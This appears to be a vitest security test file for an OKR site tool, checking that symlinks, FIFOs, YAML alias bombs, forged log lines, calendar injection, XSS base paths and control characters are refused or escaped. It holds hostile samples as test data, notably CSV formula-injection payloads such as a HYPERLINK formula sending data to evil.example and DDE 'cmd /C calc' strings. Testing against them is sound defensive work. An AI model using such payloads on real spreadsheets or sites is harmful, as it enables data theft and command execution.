/**
 * Hostile content roots (issue 14): special files, names that cannot be
 * URLs, huge numbers and dates, collisions. `check` must answer each with
 * findings naming the file, never hang, crash or run out of memory. Special
 * files (symlinks, FIFOs) are made here in a temp dir, never committed.
 */
import { execFileSync } from 'node:child_process';
import fs, { chmodSync, mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { syncBuiltinESMExports } from 'node:module';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { XMLValidator } from 'fast-xml-parser';
import ICAL from 'ical.js';
import { markdownToHtml } from 'satteri';
import { afterAll, describe, expect, it } from 'vitest';
import { check } from '../../src/cli/check.ts';
import { planImport, readRows, writeImport } from '../../src/cli/import.ts';
import { planNew } from '../../src/cli/new.ts';
import { calendarEvents, calendarIcs } from '../../src/export/calendar-ics.ts';
import { cycleCsv } from '../../src/export/cycle-csv.ts';
import { computeFigures } from '../../src/figures/index.ts';
import { english } from '../../src/i18n/index.ts';
import { basePath } from '../../src/lib/base.ts';
import { formatter } from '../../src/lib/format.ts';
import { checkContinuity } from '../../src/model/continuity.ts';
import { EnvironmentError, formatFinding } from '../../src/model/index.ts';
import type { LoadedContent } from '../../src/model/load.ts';
import { bodyText, markdownToText } from '../../src/search/markdown-text.ts';
import { feedXml } from '../../src/site/feed.ts';
import { peopleOf, personDetails, personSlug } from '../../src/site/people/people.ts';
import { cleanContentRoots, contentRoot, errorLines, load } from '../helpers.ts';
import * as builder from '../model-builder.ts';

afterAll(cleanContentRoots);

/**
 * Runs `run` noting every file it opens (or reads whole) through node:fs. A
 * named pipe is refused instead of opened, so a regression fails this test
 * rather than hanging it.
 */
function openedFiles<T>(run: () => T): { result: T; opened: string[] } {
  const opened: string[] = [];
  const originals = { openSync: fs.openSync, readFileSync: fs.readFileSync, createReadStream: fs.createReadStream };
  const note = (file: unknown) => {
    if (typeof file !== 'string' && !(file instanceof URL)) return;
    const name = String(file);
    opened.push(name);
    if (fs.statSync(name, { throwIfNoEntry: false })?.isFIFO()) throw new Error(`opened the named pipe ${name}`);
  };
  fs.openSync = ((file: fs.PathLike, ...rest: unknown[]) => (note(file), (originals.openSync as (...a: unknown[]) => number)(file, ...rest))) as typeof fs.openSync;
  fs.readFileSync = ((file: fs.PathOrFileDescriptor, ...rest: unknown[]) => (note(file), (originals.readFileSync as (...a: unknown[]) => unknown)(file, ...rest))) as typeof fs.readFileSync;
  fs.createReadStream = ((file: fs.PathLike, ...rest: unknown[]) => (note(file), (originals.createReadStream as (...a: unknown[]) => fs.ReadStream)(file, ...rest))) as typeof fs.createReadStream;
  syncBuiltinESMExports();
  try {
    return { result: run(), opened };
  } finally {
    Object.assign(fs, originals);
    syncBuiltinESMExports();
  }
}

const objective = (extra = '') =>
  `---\ntitle: Win\nteam: sales\ncycle: 2026-q3\nowner: Aisha Rahman\nkey_results:\n  - id: hostile-kr\n    title: Sign 10 customers\n    baseline: 0\n    target: 10\n${extra}---\nBody.\n`;

describe('the content-root walker', () => {
  it('refuses links that leave the root, and follows those that stay inside', () => {
    const root = contentRoot({ 'okrs/2026-q3/sales/_real.md': objective() });
    const outside = path.join(tmpdir(), `okrbook-outside-${process.pid}.md`);
    writeFileSync(outside, objective());
    symlinkSync('/dev/zero', path.join(root, 'okrs/2026-q3/sales/zero.md'));
    symlinkSync(outside, path.join(root, 'okrs/2026-q3/sales/outside.md'));
    symlinkSync(tmpdir(), path.join(root, 'okrs/2026-q3/sales/folder-outside'));
    symlinkSync('_real.md', path.join(root, 'okrs/2026-q3/sales/inside.md'));
    symlinkSync('loop-b.md', path.join(root, 'okrs/2026-q3/sales/loop-a.md'));
    symlinkSync('loop-a.md', path.join(root, 'okrs/2026-q3/sales/loop-b.md'));
    symlinkSync('..', path.join(root, 'okrs/2026-q3/sales/up'));
    symlinkSync('missing.md', path.join(root, 'okrs/2026-q3/sales/broken.md'));
    expect(errorLines(root)).toMatchInlineSnapshot(`
      [
        "okrs/2026-q3/sales/broken.md:1: symlink-broken: this symlink points to nothing; remove it or point it at a file inside the content root",
        "okrs/2026-q3/sales/folder-outside:1: symlink-outside: this symlink points outside the content root, which okrbook never reads; copy the file into the content root instead",
        "okrs/2026-q3/sales/loop-a.md:1: symlink-loop: this symlink points (through other links) back to itself; remove it or point it at a file inside the content root",
        "okrs/2026-q3/sales/loop-b.md:1: symlink-loop: this symlink points (through other links) back to itself; remove it or point it at a file inside the content root",
        "okrs/2026-q3/sales/outside.md:1: symlink-outside: this symlink points outside the content root, which okrbook never reads; copy the file into the content root instead",
        "okrs/2026-q3/sales/up:1: symlink-loop: this link points back to a folder that contains it, so the folder would never end; remove the link",
        "okrs/2026-q3/sales/zero.md:1: symlink-outside: this symlink points outside the content root, which okrbook never reads; copy the file into the content root instead",
      ]
    `);
  });

  it('never opens a FIFO or a device, and says what it is', () => {
    const root = contentRoot();
    const pipe = path.join(root, 'checkins/pipe.md');
    execFileSync('mkfifo', [pipe]);
    const { result, opened } = openedFiles(() => errorLines(root));
    expect(opened.filter((file) => path.basename(file) === 'pipe.md')).toEqual([]);
    expect(opened.length).toBeGreaterThan(3); // the files around it were read, and seen being read
    expect(result).toMatchInlineSnapshot(`
      [
        "checkins/pipe.md:1: special-file: this is a named pipe (FIFO), not a regular file; okrbook reads regular files only, remove it",
      ]
    `);
  });

  it('refuses a file above the size limit without reading it, and an unreadable file', () => {
    const root = contentRoot({ 'okrs/2026-q3/sales/big.md': objective(`# ${'x'.repeat(2 * 1024 * 1024)}\n`), 'okrs/2026-q3/sales/locked.md': objective() });
    chmodSync(path.join(root, 'okrs/2026-q3/sales/locked.md'), 0o000);
    const lines = errorLines(root, { maxFileBytes: 1024 * 1024 });
    // root reads every file whatever its mode: then only the size finding is left.
    expect(lines.filter((line) => !line.includes('locked.md'))).toMatchInlineSnapshot(`
      [
        "okrs/2026-q3/sales/big.md:1: file-too-large: the file is 2 MB, above the limit of 1 MB; split it, or raise OKRBOOK_MAX_FILE_MB",
      ]
    `);
    if (process.getuid?.() !== 0) expect(lines.find((line) => line.includes('locked.md'))).toMatch(/unreadable: the file cannot be read \(EACCES\)/);
  });

  it('takes the size limit from OKRBOOK_MAX_FILE_MB, and refuses a bad one', () => {
    const root = contentRoot({ 'okrs/2026-q3/sales/big.md': objective(`# ${'x'.repeat(300_000)}\n`) });
    expect(check([], { OKRBOOK_CONTENT: root, OKRBOOK_AS_OF: '2026-08-15', OKRBOOK_MAX_FILE_MB: '0.25' }).output).toContain('file-too-large');
    expect(() => check([], { OKRBOOK_CONTENT: root, OKRBOOK_MAX_FILE_MB: 'lots' })).toThrowErrorMatchingInlineSnapshot(`[EnvironmentError: OKRBOOK_MAX_FILE_MB must be the largest content file to read, in megabytes, a number above 0 and at most 1024 (default 10); got "lots".]`);
  });
});

describe('ids are URLs as they are', () => {
  it('refuses names with characters a URL would need to escape, suggesting the slug', () => {
    const root = contentRoot({
      'okrs/2026-q3/sales/c#-migration.md': objective(),
      'okrs/2026-q3/sales/what-next?.md': objective(),
      'okrs/2026-q3/sales/100%41.md': objective(),
      'okrs/2026-q3/sales/back\\slash.md': objective(),
      'okrs/2026-q3/Sales Team/win.md': objective(),
      'guide/Café Notes.mdx': '---\ntitle: Notes\n---\n',
      'teams/north_east.md': '---\nname: North east\n---\n',
      'okrs/2026-q3/sales/grow.MDX': objective(),
      'cycles/rules.md': '---\nname: Rules\nstart: 2026-07-01\nend: 2026-09-30\n---\n',
    });
    expect(errorLines(root)).toMatchInlineSnapshot(`
      [
        "cycles/rules.md:1: reserved-id: the cycle id \`rules\` would take the address \`/coach/rules/\`, which okrbook uses for its own page; rename the file",
        "guide/Café Notes.mdx:1: invalid-id: the path gives the id \`Café Notes\`, but every part of an id is lower-case letters, digits, \`-\`, \`_\` and \`.\` (so that it is a URL as it is); rename it to \`guide/cafe-notes.mdx\`",
        "okrs/2026-q3/Sales Team/win.md:1: invalid-id: the path gives the id \`2026-q3/Sales Team/win\`, but every part of an id is lower-case letters, digits, \`-\`, \`_\` and \`.\` (so that it is a URL as it is); rename it to \`okrs/2026-q3/sales-team/win.md\`",
        "okrs/2026-q3/sales/100%41.md:1: invalid-id: the path gives the id \`2026-q3/sales/100%41\`, but every part of an id is lower-case letters, digits, \`-\`, \`_\` and \`.\` (so that it is a URL as it is); rename it to \`okrs/2026-q3/sales/100-41.md\`",
        "okrs/2026-q3/sales/back\\slash.md:1: invalid-id: the path gives the id \`2026-q3/sales/back\\slash\`, but every part of an id is lower-case letters, digits, \`-\`, \`_\` and \`.\` (so that it is a URL as it is); rename it to \`okrs/2026-q3/sales/back-slash.md\`",
        "okrs/2026-q3/sales/c#-migration.md:1: invalid-id: the path gives the id \`2026-q3/sales/c#-migration\`, but every part of an id is lower-case letters, digits, \`-\`, \`_\` and \`.\` (so that it is a URL as it is); rename it to \`okrs/2026-q3/sales/c-migration.md\`",
        "okrs/2026-q3/sales/grow.MDX:1: invalid-extension: the extension \`.MDX\` is written in capitals; rename the file to \`okrs/2026-q3/sales/grow.mdx\`",
        "okrs/2026-q3/sales/what-next?.md:1: invalid-id: the path gives the id \`2026-q3/sales/what-next?\`, but every part of an id is lower-case letters, digits, \`-\`, \`_\` and \`.\` (so that it is a URL as it is); rename it to \`okrs/2026-q3/sales/what-next.md\`",
        "teams/north_east.md:1: invalid-id: the file name gives the team id \`north_east\`, but ids are lower-case letters, digits and hyphens; rename the file, e.g. to \`teams/north-east.md\`",
      ]
    `);
  });

  it('prints a name holding a newline on one line, so no finding can be forged', () => {
    const root = contentRoot({ 'okrs/2026-q3/sales/x\nokrs/fake.md:1: error forged: gotcha.md': objective() });
    const report = check([], { OKRBOOK_CONTENT: root, OKRBOOK_AS_OF: '2026-08-15' });
    expect(report.exitCode).toBe(1);
    const lines = report.output.split('\n');
    expect(lines.filter((line) => line.startsWith('okrbook') || line.includes('forged')).length).toBe(1);
    expect(lines.find((line) => line.includes('forged'))).toMatch(/^okrs\/2026-q3\/sales\/x\\nokrs\/fake\.md:1: error forged: gotcha\.md:1: error invalid-id/);
    expect(formatFinding({ file: 'a\u001b[2Jb.md', line: 1, level: 'error', code: 'x', message: 'm\r\n' })).toBe('a\\u001b[2Jb.md:1: error x: m\\r\\n');
  });
});

describe('content never causes an internal error', () => {
  const bomb = ['a: &a [x, x, x, x, x, x, x, x, x, x]', ...'bcdefgh'.split('').map((k, i) => `${k}: &${k} [${Array(10).fill(`*${'abcdefgh'[i]}`).join(', ')}]`), 'odd: !unknown-tag value'].join('\n');

  it('refuses a YAML alias bomb behind a tag the fast reader does not know, naming the file', () => {
    const root = contentRoot({ 'teams/bomb.md': `---\nname: Bomb\n${bomb}\n---\n` });
    expect(errorLines(root)).toMatchInlineSnapshot(`
      [
        "teams/bomb.md:2: yaml: the front matter is not valid YAML (Excessive alias count indicates a resource exhaustion attack): write the values out instead of repeating them through \`*aliases\`",
      ]
    `);
  });

  it('bounds dates to the years 1900 to 2999 and says so', () => {
    const root = contentRoot({
      'cycles/far.md': '---\nname: Far\nstart: 2999-01-01\nend: 9999-12-31\n---\n',
      'cycles/early.md': '---\nname: Early\nstart: 0001-01-01\nend: 2026-01-01\n---\n',
    });
    expect(errorLines(root)).toMatchInlineSnapshot(`
      [
        "cycles/early.md:3: invalid-value: start: expected a date in the years 1900 to 2999, got "0001-01-01"",
        "cycles/far.md:4: invalid-value: end: expected a date in the years 1900 to 2999, got "9999-12-31"",
      ]
    `);
  });

  it('bounds cadences and windows, so date arithmetic stays in range', () => {
    const root = contentRoot({ 'site.yaml': 'checkins:\n  every_days: 1000000000000\n  stale_after_days: 99999\nleadership:\n  every_months: 100000000\n' });
    expect(errorLines(root)).toMatchInlineSnapshot(`
      [
        "site.yaml:2: invalid-value: checkins.every_days: expected a whole number from 1 to 366 (a year of days), got 1000000000000",
        "site.yaml:3: invalid-value: checkins.stale_after_days: expected a whole number from 1 to 3660 (ten years of days), got 99999",
        "site.yaml:5: invalid-value: leadership.every_months: expected a whole number from 1 to 120 (ten years of months), got 100000000",
      ]
    `);
  });

  it('a cycle ending on the last day of 2999 still computes every figure', () => {
    const root = contentRoot({ 'cycles/2026-q3.md': '---\nname: Q3 2026\nstart: 2026-07-01\nend: 2999-12-31\n---\n', 'site.yaml': 'checkins:\n  every_days: 366\nleadership:\n  every_months: 120\n' });
    const report = check([], { OKRBOOK_CONTENT: root, OKRBOOK_AS_OF: '2999-12-31' });
    expect(report.output).not.toMatch(/internal|Invalid time value/);
    expect(report.exitCode).toBe(0);
  });
});

describe('figures stay finite', () => {
  it('refuses values, spans and weights whose arithmetic would overflow, naming the field', () => {
    const root = contentRoot({
      'okrs/2026-q3/sales/huge.md':
        '---\ntitle: Huge\nteam: sales\ncycle: 2026-q3\nowner: A\nweight: 1e308\nkey_results:\n  - id: huge\n    title: Huge\n    baseline: -1e308\n    target: 1e308\n    weight: 1e308\n  - id: tiny\n    title: Tiny\n    baseline: 0\n    target: 1e-300\n---\n',
    });
    expect(errorLines(root)).toMatchInlineSnapshot(`
      [
        "okrs/2026-q3/sales/huge.md:10: invalid-value: key_results[0].baseline: expected a number from -1e15 to 1e15 (write large amounts in thousands or millions), got -1e+308",
        "okrs/2026-q3/sales/huge.md:11: invalid-value: key_results[0].target: expected a number from -1e15 to 1e15 (write large amounts in thousands or millions), got 1e+308",
        "okrs/2026-q3/sales/huge.md:12: invalid-value: key_results[0].weight: expected a number greater than 0 and at most 1e6 (weights are relative: 2 counts twice as much as 1), got 1e+308",
        "okrs/2026-q3/sales/huge.md:16: span-too-small: key_results[1].target: the target is less than 1e-9 from the baseline (0), too close to measure progress; write both in a smaller unit (e.g. thousandths instead of units)",
        "okrs/2026-q3/sales/huge.md:6: invalid-value: weight: expected a number greater than 0 and at most 1e6 (weights are relative: 2 counts twice as much as 1), got 1e+308",
      ]
    `);
  });
});

describe('comments and the base path', () => {
  it('keeps HTML comments out of the search text, closed or not', () => {
    expect(markdownToText('We won <!-- internal remark: the deal was luck --> the deal.\n<!--\nreorg next month\n-->\nDone.\n\n<!-- never closed\nsecret')).toBe('We won the deal. Done.');
    // Within a paragraph an unclosed `<!--` is no comment: the page shows it (as `&lt;!–`), so search has it too.
    expect(markdownToText('Done. <!-- never closed\nshown')).toBe('Done. <!– never closed shown');
  });

  it('accepts a base path of URL-safe folders and refuses anything else, plainly', () => {
    expect(basePath(undefined)).toBe('/');
    expect(basePath(' /okrs ')).toBe('/okrs/');
    expect(basePath('team/okrs-v1.2/')).toBe('/team/okrs-v1.2/');
    for (const bad of ['/x"><script>alert(1)</script>', '/a b/', '/../', '/a//b/', '/ok%20rs/', '/okrs?x=1']) {
      expect(() => basePath(bad)).toThrow(EnvironmentError);
    }
    expect(() => basePath('/x"><script>')).toThrowErrorMatchingInlineSnapshot(`[EnvironmentError: OKRBOOK_BASE must be a path of folder names made of letters, digits, "-", "_", "." and "~", such as /okrs/ or /team/okrs/; got "/x\\"><script>".]`);
  });
});

describe('check implies build: bodies', () => {
  let n = 0;
  const withBody = (body: string) => `${objective().replace('hostile-kr', `kr-${++n}`).replace(/Body\.\n$/, '')}${body}`;
  /** The errors `check` prints (with bodies compiled), as errorLines gives them. */
  const checkErrors = (root: string) =>
    check([], { OKRBOOK_CONTENT: root, OKRBOOK_AS_OF: '2026-08-15' })
      .findings.filter((f) => f.level === 'error')
      .map((f) => `${f.file}:${f.line}: ${f.code}: ${f.message}`);

  it('reports MDX that does not compile, imports that do not resolve and missing images, at their lines', () => {
    const root = contentRoot({
      'okrs/2026-q3/sales/unclosed.mdx': withBody('Intro.\n\n<Callout>\nNever closed.\n'),
      'okrs/2026-q3/sales/comment.mdx': withBody('Text <!-- internal --> more.\n'),
      'okrs/2026-q3/sales/esm.mdx': withBody('export const a = ;\n'),
      'okrs/2026-q3/sales/imports.mdx': withBody("import Chart from './chart.astro';\nimport { x } from 'no-such-package-okrbook';\nimport fs from 'node:fs';\nimport { z } from 'astro/zod';\n\n<Chart />\n"),
      'okrs/2026-q3/sales/images.md': withBody('![Team](./team.png)\n\n![Logo](https://example.com/logo.png) ![Home](/favicon.svg)\n\n<img src="./gone.jpg" alt="x">\n\n![Up](../../../../secret.png)\n'),
      'okrs/2026-q3/sales/fine.mdx': withBody("import { Image } from 'astro:assets';\n\n![Here](./here.png)\n\n{1 + 1}\n"),
      'okrs/2026-q3/sales/here.png': 'png',
    });
    expect(checkErrors(root)).toMatchInlineSnapshot(`
      [
        "okrs/2026-q3/sales/comment.mdx:12: mdx-syntax: the body does not compile as MDX (Unexpected character \`!\` (U+0021) before name, expected a character that can start a name, such as a letter, \`$\`, or \`_\` (note: to create a comment in MDX, use \`{/* text */}\`)); MDX has no HTML comments: write \`{/* note */}\`, or rename the file to \`.md\`",
        "okrs/2026-q3/sales/esm.mdx:12: mdx-syntax: the body does not compile as MDX (Could not parse esm with oxc: Unexpected token); fix the JavaScript of the \`import\`/\`export\` lines",
        "okrs/2026-q3/sales/images.md:12: image-not-found: there is no image \`okrs/2026-q3/sales/team.png\` (from \`./team.png\`); check the path, relative to this file, and the case of every letter",
        "okrs/2026-q3/sales/images.md:16: image-not-found: there is no image \`okrs/2026-q3/sales/gone.jpg\` (from \`./gone.jpg\`); check the path, relative to this file, and the case of every letter",
        "okrs/2026-q3/sales/images.md:18: image-outside: the image \`../../../../secret.png\` lies outside the content root; copy it next to this file and link it as \`./secret.png\`",
        "okrs/2026-q3/sales/imports.mdx:12: import-not-found: the import \`./chart.astro\` finds no file (relative to this file); check the path and its extension (\`.astro\`, \`.ts\`, \`.js\`, \`.mdx\`)",
        "okrs/2026-q3/sales/imports.mdx:13: import-not-found: the import \`no-such-package-okrbook\` names the package \`no-such-package-okrbook\`, which is not installed (no \`node_modules/no-such-package-okrbook\`); add it with \`npm install no-such-package-okrbook\`, or remove the import",
        "okrs/2026-q3/sales/unclosed.mdx:14: mdx-syntax: the body does not compile as MDX (Expected a closing tag for \`<Callout>\` (3:1)); MDX reads \`<\`, \`{\` and \`}\` as code: close every tag, balance every brace, or write \`\\<\` and \`\\{\` for the characters themselves",
      ]
    `);
  });
});

/*
 * Issue 26: the surfaces added since issue 14 (calendars, CSV, feed, interface
 * strings, imports, scaffolds, people). Each case failed before its fix.
 */
const q3 = builder.cycle('2026-q3', '2026-07-01', '2026-09-30');
const calendarSite = { origin: 'https://okrs.example.com', base: '/', domain: 'okrs.example.com' };
/** Characters no published text file may hold: C0 controls but tab, LF and CR, and DEL. */
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/;

describe('issue 26: calendars hold no forged line', () => {
  it('escapes the calendar name and every event text, strips control characters, and ends each line with CRLF', () => {
    const hostile = 'Sales\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:checkin-sales-2026-q3-2026-07-01@okrs.example.com\r\nSUMMARY:Free money;,\\\u001b[0m\u0000\u000b';
    const m = builder.model({ asOf: '2026-08-15', cycles: [q3], teams: [builder.team('sales', { name: hostile })], objectives: [builder.objective('2026-q3/sales/win', 'sales', '2026-q3', [builder.kr('a')])] });
    const events = calendarEvents(m, computeFigures(m), calendarSite, 'sales');
    const text = calendarIcs(`${hostile}: check-ins`, events, '2026-08-15');
    expect(text.endsWith('\r\n')).toBe(true);
    const lines = text.split('\r\n').slice(0, -1);
    // No bare CR or LF (every line ends with CRLF), no control character, and no line a calendar would read as a new event.
    expect(lines.filter((line) => /[\r\n]/.test(line) || CONTROL.test(line))).toEqual([]);
    expect(lines.filter((line) => line.startsWith('BEGIN:VEVENT'))).toHaveLength(events.length);
    expect(lines.filter((line) => line.startsWith('UID:'))).toHaveLength(events.length);
    const calendar = new ICAL.Component(ICAL.parse(text));
    const parsed = calendar.getAllSubcomponents('vevent').map((v) => new ICAL.Event(v));
    expect(parsed.map((e) => e.uid)).toEqual(events.map((e) => e.uid));
    const shown = 'Sales\nEND:VEVENT\nBEGIN:VEVENT\nUID:checkin-sales-2026-q3-2026-07-01@okrs.example.com\nSUMMARY:Free money;,\\[0m';
    // One property each, escaped as RFC 5545 TEXT (ical.js leaves the text of these properties escaped).
    const escaped = 'Sales\\nEND:VEVENT\\nBEGIN:VEVENT\\nUID:checkin-sales-2026-q3-2026-07-01@okrs.example.com\\nSUMMARY:Free money\\;\\,\\\\[0m: check-ins';
    expect(calendar.getFirstPropertyValue('x-wr-calname')).toBe(escaped);
    expect(calendar.getFirstPropertyValue('name')).toBe(escaped);
    expect(parsed[0]!.summary).toBe(`Check-in due: ${shown} · 2026-q3`);
  });
});

describe('issue 26: the cycle CSV holds no formula', () => {
  const formulas = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', "'=already quoted", "''@quoted twice"];
  const keyResults = formulas.map((title, i) => `  - id: kr-${i}\n    title: ${JSON.stringify(title)}\n    baseline: -5\n    target: ${i}\n    unit: ${JSON.stringify(formulas[(i + 1) % formulas.length])}\n`).join('');
  const root = contentRoot({ 'okrs/2026-q3/sales/formulas.md': `---\ntitle: ${JSON.stringify(formulas[0])}\nteam: sales\ncycle: 2026-q3\nkey_results:\n${keyResults}---\n` });

  it('starts no text cell with = + - @ tab or CR (numbers stay numbers), and import gives back the titles and units as written', () => {
    const { model } = load(root);
    const csv = cycleCsv(computeFigures(model).cycle('2026-q3')!);
    const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i.test(cell))).toEqual([]);
    expect(cells).toContain('-5');
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?d="&A1,"Click")');
    expect(cells).toContain("''=already quoted");
    // export -> import round-trips: the titles and units come back as written.
    const empty = contentRoot({}, '');
    const files = planImport(readRows(new TextEncoder().encode(csv), 'q3.csv'), 'q3.csv', { cycle: '2026-q3', createMissing: true, start: '2026-07-01', end: '2026-09-30' }, load(empty).model);
    writeImport(load(empty).model.options, files);
    const imported = load(empty).model.objectives.filter((o) => o.id.endsWith('/formulas')).flatMap((o) => o.keyResults.map((k) => [o.title, k.title, k.unit]));
    const original = model.objectives.filter((o) => o.id.endsWith('/formulas')).flatMap((o) => o.keyResults.map((k) => [o.title, k.title, k.unit]));
    expect(imported).toEqual(original);
    expect(imported.map(([, title]) => title)).toEqual(formulas);
  });
});

describe('issue 26: control characters', () => {
  it('are refused by check in any text of the front matter, site.yaml, i18n/ and bodies, naming field and line', () => {
    const root = contentRoot({
      'teams/sales.md': '---\nname: "Alpha\\e[0m"\nparent: company\nmembers: ["Daniel\\x00Tan"]\n---\n',
      'site.yaml': 'title: "Acme\\vOKRs"\nlocale: en\n',
      'i18n/en.yaml': 'nav.home: "Home\\x07"\n',
      'checkins/2026-q3/sales/2026-07-13.md': '---\nteam: sales\ndate: 2026-07-13\n---\nRenewals\r\nlook \u001b[2Jcalmer.\r\n',
    });
    expect(errorLines(root).filter((line) => line.includes('invalid-character'))).toMatchInlineSnapshot(`
      [
        "checkins/2026-q3/sales/2026-07-13.md:6: invalid-character: the body holds the control character U+001B (ESC), which no page can show; remove it (retype the text if it was pasted from a terminal or a document)",
        "i18n/en.yaml:1: invalid-character: nav.home: the text holds the control character U+0007 (BEL), which no page, feed or calendar can show; remove it (retype the text if it was pasted from a terminal or a document)",
        "site.yaml:1: invalid-character: title: the text holds the control character U+000B (VT), which no page, feed or calendar can show; remove it (retype the text if it was pasted from a terminal or a document)",
        "teams/sales.md:2: invalid-character: name: the text holds the control character U+001B (ESC), which no page, feed or calendar can show; remove it (retype the text if it was pasted from a terminal or a document)",
        "teams/sales.md:4: invalid-character: members[0]: the text holds the control character U+0000 (NUL), which no page, feed or calendar can show; remove it (retype the text if it was pasted from a terminal or a document)",
      ]
    `);
  });

  it('never reach the feed: it stays well-formed XML', async () => {
    const m = builder.model({
      asOf: '2026-08-15',
      cycles: [q3],
      teams: [builder.team('sales', { name: 'Alpha\u001b[0m\u0000' })],
      objectives: [builder.objective('2026-q3/sales/win', 'sales', '2026-q3', [builder.kr('a')])],
      checkIns: [builder.checkIn('sales', '2026-q3', '2026-08-10', [], { blockers: ['Stuck\u000b\u0008'], leadersPresent: ['Farid\u0007'] })],
      settings: { title: 'Acme\u001f' },
    });
    const xml = await feedXml(m, { t: english, fmt: formatter('en'), site: new URL('https://okrs.example.com'), base: '/' });
    expect(CONTROL.test(xml)).toBe(false);
    expect(XMLValidator.validate(xml)).toBe(true);
    expect(xml).toContain('Alpha[0m');
  });
});

describe('issue 26: i18n/ is read under the walk policy', () => {
  it('refuses a FIFO, a link to /dev/zero or outside the root, a folder named like a file, a file named i18n, and a file above the size limit', () => {
    const outside = path.join(tmpdir(), `okrbook-outside-i18n-${process.pid}.yaml`);
    writeFileSync(outside, 'nav.home: Outside words\n');
    const root = contentRoot({ 'i18n/ms.yaml': `nav.home: "${'x'.repeat(2 * 1024 * 1024)}"\n` });
    execFileSync('mkfifo', [path.join(root, 'i18n/en.yaml')]);
    symlinkSync('/dev/zero', path.join(root, 'i18n/zero.yaml'));
    mkdirSync(path.join(root, 'i18n/en.yml'));
    const lines = errorLines(root, { maxFileBytes: 1024 * 1024 });
    expect(lines).toMatchInlineSnapshot(`
      [
        "i18n/en.yaml:1: special-file: this is a named pipe (FIFO), not a regular file; okrbook reads regular files only, remove it",
        "i18n/en.yml:1: not-a-file: this is a folder; interface strings are files named after their language (e.g. \`i18n/ms.yaml\`): move it aside, or start its name with \`_\`",
        "i18n/ms.yaml:1: file-too-large: the file is larger than the limit of 1 MB; interface strings are a few lines each, so it is likely not the file you meant (or raise OKRBOOK_MAX_FILE_MB)",
        "i18n/zero.yaml:1: symlink-outside: this symlink points outside the content root, which okrbook never reads; copy the file into the content root instead",
      ]
    `);
    const file = contentRoot({ i18n: 'nav.home: Home\n' });
    expect(errorLines(file)).toMatchInlineSnapshot(`
      [
        "i18n:1: not-a-folder: this is a file, but \`i18n\` is the folder of interface strings, one file per language (e.g. \`i18n/ms.yaml\`); move its strings into such a file",
      ]
    `);
    const linked = contentRoot();
    mkdirSync(path.join(linked, 'i18n'));
    symlinkSync(outside, path.join(linked, 'i18n/en.yaml'));
    const { model, findings } = load(linked);
    expect(findings.map((f) => `${f.file}: ${f.code}`)).toEqual(['i18n/en.yaml: symlink-outside']);
    expect(JSON.stringify(model.interfaceStrings ?? {})).not.toContain('Outside words');
    rmSync(outside);
  });
});

describe('issue 26: long person names', () => {
  it('give slugs of at most 64 characters, cut with a short hash so two long names never share one', () => {
    const long = `Siti ${'Nurhaliza '.repeat(32)}binti Tarudin`;
    const slug = personSlug(long);
    expect(slug.length).toBeLessThanOrEqual(64);
    expect(slug).toMatch(/^siti-nurhaliza-nurhaliza-[a-z0-9-]+-[0-9a-f]{8}$/);
    expect(personSlug(`${long} II`)).not.toBe(slug);
    expect(personSlug('Siti Nurhaliza Ş.')).toBe('siti-nurhaliza-s');
  });
});

describe('issue 26: people are matched as readers see them', () => {
  it('takes names that differ only in case or Unicode normalisation for one person, keeping the written form', () => {
    const composed = 'Zoë Ng';
    const decomposed = 'Zoe\u0308 Ng';
    const m = builder.model({
      asOf: '2026-08-15',
      cycles: [q3],
      teams: [builder.team('sales', { lead: composed, members: ['zoë ng', 'Daniel Tan'] })],
      objectives: [builder.objective('2026-q3/sales/win', 'sales', '2026-q3', [builder.kr('a', { owner: 'ZOË NG' })], { owner: decomposed })],
    });
    const { people, byName } = peopleOf(m);
    expect(people.map((p) => [p.name, p.slug])).toEqual([['Daniel Tan', 'daniel-tan'], ['Zoë Ng', 'zoe-ng']]);
    expect(byName(decomposed)?.slug).toBe('zoe-ng');
    expect(byName('zoë ng')?.name).toBe('Zoë Ng');
    const details = personDetails(m, computeFigures(m), byName(decomposed)!, [q3]);
    expect(details.objectives.map((o) => o.objective.id)).toEqual(['2026-q3/sales/win']);
    expect(details.keyResults.map((k) => k.result.keyResult.id)).toEqual(['a']);
    expect(details.teams.map((t) => t.role)).toEqual(['lead']);
  });
});

describe('issue 26: import writes inside the content root only, and reports what it cannot write', () => {
  const importCsv = (root: string, csv: string) => {
    const { model } = load(root);
    return writeImport(model.options, planImport(readRows(new TextEncoder().encode(csv), 'okrs.csv'), 'okrs.csv', { cycle: '2026-q3', createMissing: false }, model));
  };

  it('refuses a target folder whose real path is outside the root, and writes nothing', () => {
    const root = contentRoot();
    const outside = mkdtempSync(path.join(tmpdir(), 'okrbook-outside-'));
    symlinkSync(outside, path.join(root, 'okrs/2026-q3/beta'));
    const csv = 'team,objective,objective_title,kr,kr_title,baseline,target\nsales,2026-q3/beta/grow,Grow,mrr-9,MRR,1,2\n';
    expect(() => importCsv(root, csv)).toThrow(`okrs.csv row 2, column objective: nothing was imported: \`okrs/2026-q3/beta\` is a link to ${realpathSync(outside)}, outside the content root, and import writes inside the content root only; replace the link with a folder, or import into another cycle`);
    // A link where the file would go, pointing nowhere: the file system refuses, and the row is named.
    symlinkSync(path.join(outside, 'grow.md'), path.join(root, 'okrs/2026-q3/sales/grow.md'));
    expect(() => importCsv(root, csv.replace('2026-q3/beta/grow', '2026-q3/sales/grow'))).toThrow(/^okrs\.csv row 2, column objective: cannot write `okrs\/2026-q3\/sales\/grow\.md` \(EEXIST: .*\); nothing was imported$/);
    expect(readdirSync(outside)).toEqual([]);
  });

  it('names the row and column of an id too long for a file system (a 300-character segment, 2,100 segments), and leaves the root as it was', () => {
    const root = contentRoot();
    const before = readdirSync(root, { recursive: true }).sort();
